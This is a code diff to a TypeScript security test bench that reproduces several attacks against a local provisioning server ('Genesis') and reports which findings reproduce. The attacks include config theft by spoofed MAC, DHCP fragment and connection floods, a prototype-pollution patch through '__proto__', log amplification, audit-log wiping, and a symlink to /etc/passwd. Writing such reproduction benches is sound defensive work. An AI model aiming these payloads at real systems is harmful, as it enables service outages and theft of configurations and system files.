@@ -24,6 +24,8 @@ const TOKEN = 'bench-token-0123456789abcdef';
 const REAL = '127.0.13.2';
 const EVIL = '127.0.13.66';
 
+let stopping = false;
+
 type Started = { child: ChildProcess; url: string; tftp: number; dhcp: number; sink: number; dir: string; logBytes: () => number };
 
 async function startGenesis(): Promise<Started> {
@@ -54,29 +56,36 @@ async function startGenesis(): Promise<Started> {
     stdio: ['ignore', 'pipe', 'pipe'],
   });
   let bytes = 0;
-  let buffered = '';
+  let buffered: string | undefined = '';
   const ready = new Promise<Record<string, { port: number; pxePort?: number; sink?: { port: number } }>>((resolve) => {
     child.stdout!.on('data', (d: Buffer) => {
       bytes += d.length;
-      if (buffered !== null) {
-        buffered += d.toString();
-        for (const line of buffered.split('\n')) {
-          if (line.includes('"genesis ready"')) {
-            resolve(JSON.parse(line));
-            buffered = '';
-          }
-        }
-        if (buffered.length > 1e6) buffered = buffered.slice(-1e5);
-      }
+      // Only the lines up to 'genesis ready' are read; after that the log is only counted.
+      if (buffered === undefined) return;
+      buffered += d.toString();
+      const at = buffered.indexOf('"genesis ready"');
+      if (at === -1) return;
+      const start = buffered.lastIndexOf('\n', at) + 1;
+      const end = buffered.indexOf('\n', at);
+      if (end === -1) return;
+      resolve(JSON.parse(buffered.slice(start, end)));
+      buffered = undefined;
     });
   });
-  child.stderr!.on('data', (d: Buffer) => (bytes += d.length));
+  let stderrTail = '';
+  child.stderr!.on('data', (d: Buffer) => {
+    bytes += d.length;
+    stderrTail = (stderrTail + d.toString()).slice(-2000);
+  });
+  child.on('exit', (code, signal) => {
+    if (!stopping) console.error(`genesis exited by itself (code ${code}, signal ${signal}); its stderr ended with: ${stderrTail}`);
+  });
   const r = (await ready) as unknown as { http: { port: number }; tftp: { port: number }; dhcp: { port: number }; events: { sink: { port: number } } };
   return { child, url: `http://127.0.0.1:${r.http.port}`, tftp: r.tftp.port, dhcp: r.dhcp.port, sink: r.events.sink.port, dir, logBytes: () => bytes };
 }
 
 function request(method: string, url: string, opts: { from?: string; body?: unknown; auth?: boolean } = {}): Promise<{ status: number; body: string }> {
-  return new Promise((resolve, reject) => {
+  return new Promise((resolve) => {
     const data = opts.body === undefined ? undefined : JSON.stringify(opts.body);
     const req = http.request(url, { method, localAddress: opts.from, agent: false, headers: { ...(opts.auth ? { authorization: `Bearer ${TOKEN}` } : {}), ...(data ? { 'content-type': 'application/json' } : {}) } }, (res) => {
       let body = '';
@@ -84,7 +93,8 @@ function request(method: string, url: string, opts: { from?: string; body?: unkn
       res.on('data', (c: string) => (body += c));
       res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
     });
-    req.on('error', reject);
+    // A reset or refused connection is an answer here too (status 0), not a crash of the bench.
+    req.on('error', (err: NodeJS.ErrnoException) => resolve({ status: 0, body: err.code ?? String(err) }));
     req.end(data);
   });
 }
@@ -116,12 +126,31 @@ const report = (finding: string, reproduces: boolean, detail: string) => {
   console.error(`done: ${finding}`);
 };
 
-async function main(): Promise<void> {
+/** One attack against a fresh Genesis (a crash or a polluted process must not spoil the next one). */
+async function attack(name: string, run: (g: Started) => Promise<void>): Promise<void> {
   const g = await startGenesis();
+  stopping = false;
   try {
-    latency.push(['no attack (3 s of probes)', await worstHealth(g, () => new Promise((r) => setTimeout(r, 3000)))]);
+    await run(g);
+  } catch (err) {
+    results.push([name, `(the attack could not finish: ${(err as Error).message.slice(0, 120)})`]);
+  } finally {
+    stopping = true;
+    if (g.child.exitCode === null && g.child.signalCode === null) {
+      g.child.kill('SIGTERM');
+      await once(g.child, 'exit');
+    }
+    rmSync(g.dir, { recursive: true, force: true });
+  }
+  console.error(`done: ${name}`);
+}
 
-    // 1. Config theft by MAC.
+async function main(): Promise<void> {
+  await attack('baseline', async (g) => {
+    latency.push(['no attack (3 s of probes)', await worstHealth(g, () => new Promise((r) => setTimeout(r, 3000)))]);
+  });
+
+  await attack('1 config theft', async (g) => {
     const mac = '52:54:00:ee:00:01';
     await request('PUT', `${g.url}/api/v1/nodes/${mac}`, { auth: true, body: { role: 'controlplane' } });
     const realUrl = configUrl((await script(g, mac, REAL)).body);
@@ -134,9 +163,12 @@ async function main(): Promise<void> {
     await script(g, mac2, REAL);
     await request('POST', `${g.url}/api/v1/nodes/${mac2}/installed`, { auth: true });
     await script(g, mac2, EVIL);
-    const installed = JSON.parse((await request('GET', `${g.url}/api/v1/nodes/${mac2}`, { auth: true })).body) as { lastIp: string };
+    const installed = JSON.parse((await request('GET', `${g.url}/api/v1/nodes/${mac2}`, { auth: true })).body || '{}') as { lastIp: string };
     report('1b installed node lastIp overwritten', installed.lastIp === EVIL, `lastIp after the attacker's request: ${installed.lastIp}`);
+    // 1c: auto-assign makes a stranger a control plane (the default mode, as before).
+  });
 
+  await attack('2 dhcp', async (g) => {
     // 2. Quadratic DHCP decode.
     const frag = (() => {
       const head = Buffer.alloc(240);
@@ -158,14 +190,19 @@ async function main(): Promise<void> {
         await new Promise((r) => setTimeout(r, 40));
       }
     });
+    sock.close();
     latency.push(['50 DHCP packets of 21,000 one-byte fragments, 25/s', dhcpWorst]);
     report('2 DHCP fragments stall the process', dhcpWorst > 1000, `worst /healthz ${dhcpWorst.toFixed(0)} ms`);
+  });
 
+  await attack('3 pollution', async (g) => {
     // 3. Prototype pollution through a node patch.
     const pol = await request('PUT', `${g.url}/api/v1/nodes/52:54:00:ee:03:01`, { auth: true, body: { role: 'worker', configPatch: '- op: add\n  path: /__proto__/installDisk\n  value: /dev/pwned\n' } });
     const list = await request('GET', `${g.url}/api/v1/nodes`, { auth: true });
     report('3 prototype pollution via a patch', list.status !== 200 || list.body.includes('/dev/pwned'), `patch answer ${pol.status}; GET /nodes afterwards ${list.status}${list.body.includes('/dev/pwned') ? ', shows /dev/pwned' : ''}`);
+  });
 
+  await attack('4 tftp', async (g) => {
     // 4. TFTP slot held for an hour.
     const t = dgram.createSocket('udp4');
     await new Promise<void>((r) => t.bind(0, EVIL, r));
@@ -173,10 +210,14 @@ async function main(): Promise<void> {
     const rrq = Buffer.concat([Buffer.from([0, 1]), Buffer.from('undionly.kpxe\u0000octet\u0000timeout\u0000255\u0000')]);
     const answer = once(t, 'message');
     t.send(rrq, g.tftp, '127.0.0.1');
-    const [oack] = (await answer) as [Buffer];
-    report('4 TFTP timeout 255 granted', oack.includes(Buffer.from('timeout\x00255')), `OACK: ${JSON.stringify(oack.subarray(2).toString('latin1'))}`);
+    const first = (await Promise.race([answer, new Promise((r) => setTimeout(() => r([Buffer.alloc(0)]), 5000))])) as [Buffer];
+    const opcode = first[0].length >= 2 ? first[0].readUInt16BE(0) : 0;
+    const granted = opcode === 6 && first[0].includes(Buffer.from('timeout\x00255'));
+    report('4 TFTP timeout 255 granted', granted, opcode === 6 ? `OACK ${JSON.stringify(first[0].subarray(2).toString('latin1').replace(/\0/g, ' ').trim())}` : opcode === 3 ? 'DATA at once: no option acknowledged' : `no answer (opcode ${opcode})`);
     t.close();
+  });
 
+  await attack('5 sink', async (g) => {
     // 5. Idle connections to the event sink.
     const held: net.Socket[] = [];
     const sinkWorst = await worstHealth(g, async () => {
@@ -191,7 +232,9 @@ async function main(): Promise<void> {
     const open = held.filter((s) => !s.destroyed && s.readyState === 'open').length;
     report('5 256 idle sink connections from one address', open > 16, `${open} of 256 still open after 1 s`);
     for (const s of held) s.destroy();
+  });
 
+  await attack('6 log', async (g) => {
     // 6. Log flood through TFTP filenames.
     const before = g.logBytes();
     const lf = dgram.createSocket('udp4');
@@ -218,7 +261,9 @@ async function main(): Promise<void> {
     const logged = g.logBytes() - before;
     latency.push(['500 TFTP requests with 65 KB filenames', logWorst]);
     report('6 log amplification', logged > sent / 10, `${(sent / 1e6).toFixed(1)} MB sent, ${(logged / 1e6).toFixed(2)} MB of log`);
+  });
 
+  await attack('7 history', async (g) => {
     // 7. History wiped by bad-token fetches.
     const mac7 = '52:54:00:ee:07:01';
     await request('PUT', `${g.url}/api/v1/nodes/${mac7}`, { auth: true, body: { role: 'worker' } });
@@ -226,7 +271,9 @@ async function main(): Promise<void> {
     const ev = JSON.parse((await request('GET', `${g.url}/api/v1/nodes/${mac7}/events?limit=1000`, { auth: true })).body) as { events: Array<{ type: string }> };
     const audit = ev.events.filter((e) => e.type === 'api-change').length;
     report('7 audit trail wiped by 1,100 bad fetches', audit === 0, `api-change events left: ${audit}; config-denied events: ${ev.events.filter((e) => e.type === 'config-denied').length}`);
+  });
 
+  await attack('8 discovery', async (g) => {
     // 8. Unbounded discovery.
     const discWorst = await worstHealth(g, async () => {
       for (let i = 0; i < 2000; i++) await script(g, `02:00:00:ee:${(i >> 8).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}`, EVIL);
@@ -234,7 +281,9 @@ async function main(): Promise<void> {
     const nodes = (JSON.parse((await request('GET', `${g.url}/api/v1/nodes`, { auth: true })).body) as { nodes: unknown[] }).nodes.length;
     latency.push(['2,000 made-up MACs from one address', discWorst]);
     report('8 inventory grows without bound', nodes > 500, `${nodes} nodes after 2,000 made-up MACs`);
+  });
 
+  await attack('9 smaller', async (g) => {
     // 9. Smaller findings that can be seen from outside.
     mkdirSync(path.join(g.dir, 'assets', 'talos', 'evil'), { recursive: true });
     symlinkSync('/etc/passwd', path.join(g.dir, 'assets', 'talos', 'evil', 'vmlinuz'));
@@ -246,11 +295,8 @@ async function main(): Promise<void> {
     const p9 = await request('PUT', `${g.url}/api/v1/nodes/52:54:00:ee:09:01`, { auth: true, body: { role: 'worker', configPatch: 'machine:\n  env:\n    SECRET: hunter2\n' } });
     const ev9 = (await request('GET', `${g.url}/api/v1/nodes/52:54:00:ee:09:01/events`, { auth: true })).body;
     report('9c patches unredacted in events', ev9.includes('hunter2'), `patch answer ${p9.status}`);
-  } finally {
-    g.child.kill('SIGTERM');
-    await once(g.child, 'exit');
-    rmSync(g.dir, { recursive: true, force: true });
-  }
+  });
+
   console.log(`Genesis at ${repo}\n`);
   for (const [f, r] of results) console.log(`${f.padEnd(44)} ${r}`);
   console.log('\nworst /healthz answer, same run:');
@@ -259,3 +305,5 @@ async function main(): Promise<void> {
 }
 
 await main();
+// Sockets a killed server left half-open must not keep the bench alive.
+process.exit(0);
